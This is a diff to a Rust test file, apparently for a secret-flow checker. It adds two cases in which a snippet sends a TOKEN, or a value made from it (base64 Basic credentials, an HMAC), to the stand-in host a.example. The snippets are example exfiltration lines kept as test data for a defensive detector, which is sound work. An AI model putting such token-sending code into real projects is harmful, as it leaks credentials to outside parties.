@@ -116,6 +116,8 @@ fn what_takes_secrets_takes_all_that_is_made_of_them() {
         "    let body = if now() > run_start() { TOKEN } else { \"none\" }\n    http.post(\"https://a.example/\", body: body)",
         "    let first = [TOKEN].first() ?? \"x\"\n    http.post(\"https://a.example/\", body: first)",
         "    http.post(\"https://a.example/\", body: \"plain\", json: none)",
+        "    let basic = base64.encode(\"ann:{TOKEN}\".bytes())\n    http.post(\"https://a.example/\", body: \"Basic {basic}\")",
+        "    let signed = hash.hmac(TOKEN, \"x\".bytes())\n    http.post(\"https://a.example/\", body: signed)",
     ] {
         let text = format!("{}fn run_start() -> datetime {{ now() }}\n", task(body));
         let said = told(&[("main", &text)]);
